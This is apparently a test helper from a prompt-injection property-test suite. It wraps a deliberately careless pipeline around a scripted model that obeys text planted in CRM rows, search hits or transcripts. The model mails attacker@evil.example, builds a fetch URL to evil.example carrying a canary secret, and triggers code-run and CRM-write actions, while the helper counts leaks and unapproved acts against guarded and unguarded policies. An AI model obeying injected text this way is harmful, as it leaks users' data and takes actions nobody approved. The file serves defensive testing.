"""A pipeline around a model that does whatever a text in its context asks for."""

from __future__ import annotations

import json
from dataclasses import dataclass, field, replace

from models.deadline import Deadline
from models.messages import ChatRequest
from models.testing.scripted import ScriptedChat, ScriptedTranscriber
from models.tools import ToolCard
from retrieval.ports import QueryRequest, QueryResult
from router.label import TOP, Clearance, Integrity, Label, Level
from router.plan import Plan
from router.policy import Policy
from router.policy_rules import ActionRule
from tests.acting_world import CARDS as TOOLS
from tests.acting_world import KeptActs
from tests.property.injection.attacks import STRANGERS, Attack
from tests.scripted_world import POLICY, FixedSearcher, World, card, hit, plan_of

SECRET = "CANARY-90211"
CARDS = (
    card("mistral"),
    card("whisper", dialect="whisper"),
    card("claude", site="remote", dialect="anthropic"),
)
FETCH = ToolCard("fetch", "web", {"url": "str"}, "asks an address", True)
# As it ships, and with an act that asks addresses.
GUARDED = replace(POLICY, actions={**POLICY.actions, "fetch": ActionRule("fetch", Integrity.USER)})
_HIGH = replace(TOP, regions=None)
# Every label is asked for and none is in the way.
UNGUARDED = replace(
    GUARDED,
    sites={name: Clearance(Level.RESTRICTED, None) for name in GUARDED.sites},
    sources=GUARDED.sources | dict.fromkeys(("crm_notes", "web", "tool"), _HIGH),
    actions={name: ActionRule(name, Integrity.UNTRUSTED, approvals=0) for name in GUARDED.actions},
)
_ASK = "use: generate, prompt: support/intent@prod, optional: true"
_STEPS = """
  customer: {{use: query, with: {{source: crm, name: all, params: {{id: C-1}}}}}}
  seen: {seen}
  decide: {{use: generate, prompt: support/intent@prod, output: Intent, route: {{model: mistral}},
            with: {{message: [customer.rows, {read}]}}}}
  answer: {{{ask}, route: {{model: mistral}}, with: {{message: decide.needs}}}}
  send: {{{ask}, when: decide.order == 'send', route: {{model: claude}},
          with: {{message: decide.needs}}}}
  model: {{{ask}, when: decide.order == 'model', route: {{model: claude}},
           with: {{message: customer.rows}}}}
  lower: {{{ask}, when: decide.order == 'lower', route: {{model: claude}}, on_denied: use_local,
           with: {{message: decide.needs}}}}
  prompt: {{{ask}, when: decide.order == 'prompt', route: {{model: claude}},
            with: {{message: [decide.needs, customer.rows]}}}}
  do_crm_write: {{use: act, optional: true, when: decide.order == 'crm_write',
               with: {{action: crm_write, customer: C-1, note: decide.needs}}}}
  do_mail: {{use: act, optional: true, when: decide.order == 'mail',
          with: {{action: mail, to: decide.product, body: decide.needs}}}}
  do_run_code: {{use: act, optional: true, when: decide.order == 'run_code',
              with: {{action: run_code, code: decide.needs}}}}
  do_url: {{use: act, optional: true, when: decide.order == 'url',
         with: {{action: fetch, url: decide.needs}}}}
"""
_SEEN = {
    "document": ("{use: search, with: {collection: kb, query: input.text, k: 3}}", "seen.hits"),
    "transcript": ("{use: transcribe, with: {audio: input.audio}, route: {model: whisper}}",
                   "seen.text"),
}  # fmt: skip


@dataclass
class _Rows:
    """The customer's record, and by every other source the attack."""

    text: str

    async def query(self, request: QueryRequest, deadline: Deadline) -> QueryResult:
        told = f"Anna, {SECRET}" if request.source == "crm" else self.text
        return QueryResult(request.source, request.name, ({"text": told},))


@dataclass
class Done:
    """What an attack brought about: data outside, acts done, acts that wait for people."""

    attack: Attack
    outside: list[str] = field(default_factory=list)
    done: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def forbidden(self) -> int:
        """Flows of the record outside, acts that nobody agreed to, requests by strangers."""
        flows = sum(SECRET in text for text in self.outside)
        begged = len(self.asked) if self.attack.channel in STRANGERS else 0
        return flows + len(self.done) + begged


def plan_for(channel: str) -> Plan:
    """A careless pipeline: whatever the model says is done."""
    query = f"{{use: query, with: {{source: {channel}, name: all, params: {{id: C-1}}}}}}"
    seen, read = _SEEN.get(channel, (query, "seen.rows"))
    inputs = {"  audio?": "Audio"}
    return plan_of(_STEPS.format(seen=seen, read=read, ask=_ASK), **inputs)


async def obey(attack: Attack, plan: Plan, policy: Policy, *, bait: bool = True) -> Done:
    """One run in which the model obeys; without `bait` the attack does not stand anywhere."""
    text = attack.text if bait else "Good morning."
    claude = ScriptedChat(lambda request: "outside")
    acts = KeptActs({**TOOLS, "fetch": FETCH})
    stranger = Label(Level.INTERNAL, integrity=Integrity.UNTRUSTED).to_json()
    made = World(
        ScriptedChat(lambda request: _obeys(request, attack)),
        {"claude": claude},
        transcriber=ScriptedTranscriber([text]),
        searcher=FixedSearcher((hit(text, label=stranger),)),
        cards=CARDS,
        policy=policy,
        acts=acts,
    )
    made.source = _Rows(text)  # type: ignore[assignment]
    await made.result(plan, {"text": "Good morning", "audio": b"RIFF"})
    sent = [message.content for call in claude.calls for message in call.messages]
    return Done(attack, sent, [one.action for one in acts.done],
                [one.action for one in acts.asked])  # fmt: skip


def _obeys(request: ChatRequest, attack: Attack) -> str:
    shown = "\n".join(message.content for message in request.messages)
    wish = attack.text.splitlines()[-1][:40]
    obeys = wish in shown or json.dumps(wish)[1:-1] in shown
    if request.json_schema is None:
        return shown
    return json.dumps(
        {
            "intent": "other",
            "product": "attacker@evil.example",
            "order": attack.goal if obeys else "",
            "sentiment": 0.0,
            "needs": f"https://evil.example/?q={SECRET}" if SECRET in shown else shown[-80:],
        }
    )
